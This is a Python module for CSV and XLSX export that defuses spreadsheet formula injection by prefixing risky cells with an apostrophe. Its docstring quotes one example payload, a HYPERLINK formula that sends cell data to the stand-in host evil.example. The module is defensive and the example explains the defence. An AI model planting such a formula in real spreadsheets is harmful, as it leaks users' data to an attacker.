"""Writing rows a spreadsheet opens but never executes: CSV and XLSX.

Any text cell that a spreadsheet would read as a formula — starting with = + - @, a tab or a
carriage return (OWASP "CSV injection") — is written with a leading apostrophe, so a person
who joins as `=HYPERLINK("http://evil.example/?d="&A3,"Siu Fong")` is shown, not run. Numbers,
dates and booleans are left as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Rows = Sequence[Sequence[object]]


def neutralise(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_rows(rows: Rows) -> list[list[object]]:
    return [[neutralise(cell) for cell in row] for row in rows]


def to_csv(rows: Rows) -> bytes:
    """UTF-8 with a byte-order mark, so Excel shows 中文 instead of mojibake."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(safe_rows(rows))
    return buffer.getvalue().encode("utf-8-sig")


def to_xlsx(
    sheets: Sequence[tuple[str, Rows]],
    decorate: Callable[[Any], None] | None = None,
) -> bytes:
    """One sheet per (title, rows), bold frozen header; `decorate(workbook)` adds charts."""
    # Imported here: openpyxl adds ~17 MiB to every process for a monthly export
    # (bench/handlers.py measures the bot's memory).
    from openpyxl import Workbook
    from openpyxl.cell.cell import TYPE_STRING
    from openpyxl.styles import Font

    workbook = Workbook()
    default_sheet = workbook.active  # a new workbook always has one; typed as optional
    if default_sheet is not None:
        workbook.remove(default_sheet)
    for title, rows in sheets:
        sheet = workbook.create_sheet(str(neutralise(title))[:31])
        for row in safe_rows(rows):
            sheet.append(row)
        for cells in sheet.iter_rows():
            for cell in cells:
                # openpyxl itself turns any string starting with "=" into a formula:
                # after neutralising, every string is stored as plain text.
                if isinstance(cell.value, str):
                    cell.data_type = TYPE_STRING
        if rows:
            for cell in sheet[1]:
                cell.font = Font(bold=True)
            sheet.freeze_panes = "A2"
    if decorate is not None:
        decorate(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
